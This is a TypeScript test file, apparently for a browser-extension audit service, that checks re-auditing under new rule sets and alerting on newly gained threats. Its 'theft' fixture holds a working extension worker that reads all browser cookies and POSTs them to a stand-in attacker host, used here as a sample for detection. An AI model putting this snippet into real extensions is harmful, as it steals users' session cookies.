import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { currentRuleset } from '@extaudit/engine';
import { sql } from 'kysely';
import { sampleReport } from '../../../../engine/testing/sample-result.ts';
import { failAnalysis } from '../../storage/analysis/analysis.ts';
import { listOutdatedVersions } from '../../storage/analysis/outdated-report.ts';
import {
  insertTestAnalysis,
  insertTestExtension,
  insertTestPackage,
  insertTestReport,
} from '../../testing/test-catalogue.ts';
import { withTestDatabase } from '../../testing/test-database.ts';
import { makeTestExtension, type TestExtension } from '../../testing/test-extension.ts';
import { insertTestMonitor } from '../../testing/test-monitor.ts';
import { detailsByType, startTestWatch, type TestWatch } from '../../testing/test-watch.ts';
import { createOwner } from '../auth/create-owner.ts';
import { detectNow } from '../monitor/detect-now.ts';
import { requestOutdatedAudits } from './request-outdated-audits.ts';

const thief = {
  permissions: ['cookies'],
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'worker.js' },
};
const theft = {
  'worker.js': `chrome.cookies.getAll({}, (all) => {
    fetch('https://collect.attacker-site.net/in', { method: 'POST', body: JSON.stringify(all) });
  });`,
};

describe('a new rule set', () => {
  let watch: TestWatch;
  before(async () => {
    watch = await startTestWatch();
    await watch.startWorkers();
  });
  after(() => watch[Symbol.asyncDispose]());

  const take = (extension: TestExtension, version: string, manifest = {}, files = {}) =>
    watch.take({ kind: 'bytes', bytes: extension.pack(version, manifest, files), name: 'upload' });

  /** Waits until all monitors have seen reports of the rules of now. */
  async function untilSeen(): Promise<void> {
    for (;;) {
      const { rows } = await sql<{ left: number }>`SELECT count(*)::integer AS left FROM monitor
        WHERE seen #>> '{report,rulesetHash}' IS DISTINCT FROM ${currentRuleset}`.execute(
        watch.database.db,
      );
      if (rows[0]?.left === 0) return;
      await sleep(200);
    }
  }

  /** Lets all that is stored and seen be by rules that found nothing in anything. */
  async function age(): Promise<void> {
    const { db } = watch.database;
    await sql`UPDATE analysis SET ruleset_hash = 'older', risk_score = 3, risk_level = 'low',
        classification = 'clean', risk_order = NULL, headline = NULL,
        report = (report::jsonb - 'headline' - 'risk_order' - 'parts' || jsonb_build_object(
          'ruleset_hash', 'older', 'risk_score', 3, 'risk_level', 'low', 'classification', 'clean',
          'findings', '[]'::jsonb, 'flows', '[]'::jsonb, 'hosts', '[]'::jsonb))::json
      WHERE state = 'completed'`.execute(db);
    await sql`UPDATE monitor SET seen = (seen::jsonb || jsonb_build_object('report',
        (seen::jsonb -> 'report') || jsonb_build_object('rulesetHash', 'older', 'riskScore', 3,
          'riskLevel', 'low', 'classification', 'clean', 'findings', '[]'::jsonb,
          'flows', '[]'::jsonb, 'hosts', '[]'::jsonb)))`.execute(db);
  }

  it('alerts none of 1,000 monitors, and has all that they watch audited again', async () => {
    const { db } = watch.database;
    const extensions = Array.from({ length: 50 }, (_, index) =>
      makeTestExtension(`Watched ${index}`),
    );
    const first = await watch.addAccount();
    for (const [index, extension] of extensions.entries()) {
      await (index % 2 === 0 ? take(extension, '1.0', thief, theft) : take(extension, '1.0'));
      await watch.watch(extension.id, first);
    }
    await untilSeen();
    for (let account = 1; account < 20; account += 1) {
      const accountId = await watch.addAccount();
      for (const { id } of extensions) await watch.watch(id, accountId);
    }
    await age();
    assert.equal(await requestOutdatedAudits(watch.services), 50);
    await untilSeen();

    const { rows } = await sql<Record<string, number>>`SELECT
      (SELECT count(*) FROM monitor)::integer AS monitors,
      (SELECT count(*) FROM monitor_event)::integer AS events,
      (SELECT count(*) FROM delivery)::integer AS deliveries,
      (SELECT count(*) FROM analysis WHERE superseded_at IS NULL AND classification = 'suspicious'
        AND ruleset_hash = ${currentRuleset})::integer AS suspicious`.execute(db);
    assert.deepEqual(rows[0], { monitors: 1_000, events: 0, deliveries: 0, suspicious: 25 });
    assert.equal(await requestOutdatedAudits(watch.services), 0);
  });

  it('compares a new version with the older one by the rules of now, and tells only what was gained', async () => {
    const always = makeTestExtension('Always a thief');
    const turned = makeTestExtension('Turned into a thief');
    await take(always, '1.0', thief, theft);
    await take(turned, '1.0', thief);
    const monitors = [await watch.watch(always.id), await watch.watch(turned.id)];
    await untilSeen();
    await age();
    for (const extension of [always, turned]) await take(extension, '1.1', thief, theft);
    const [ofAlways, ofTurned] = await Promise.all(
      monitors.map(async (id) => (await detectNow(watch.services, id, { secondsMax: 600 })).events),
    );
    assert.deepEqual(Object.keys(detailsByType(ofAlways ?? [])), ['version_update']);
    assert.deepEqual(Object.keys(detailsByType(ofTurned ?? [])).sort(), [
      'security_alert',
      'version_update',
    ]);
  });
});

it('looks at what is watched first, then at what has the most users, and never again at what failed', async () => {
  await withTestDatabase(async ({ db }) => {
    const versions = new Map<string, string>();
    const owner = { email: 'owner@example.org', password: 'nineteen hundred and fifteen' };
    const { accountId } = await createOwner(db, owner);
    for (const [letter, user_count] of Object.entries({ a: 7, b: 900, c: 50, d: 8, e: 9 })) {
      const extension_id = letter.repeat(32);
      const { versionId } = await insertTestExtension(db, { extension_id, user_count });
      await insertTestPackage(db, versionId);
      const ruleset_hash = letter === 'd' ? currentRuleset : 'older';
      await insertTestReport(db, versionId, sampleReport({ ruleset_hash }));
      versions.set(versionId, letter);
    }
    const watched = { account_id: accountId, extension_id: 'a'.repeat(32), enabled: true };
    await insertTestMonitor(db, watched);
    const order = async () =>
      (await listOutdatedVersions(db, currentRuleset, 10)).map((id) => versions.get(id)).join('');
    assert.equal(await order(), 'abce');
    const [failing = ''] = [...versions].find(([, letter]) => letter === 'b') ?? [];
    const analysisId = await insertTestAnalysis(db, failing, { state: 'processing' });
    await db.transaction().execute((trx) => failAnalysis(trx, analysisId, 'it cannot be read'));
    assert.equal(await order(), 'ace');
  });
});
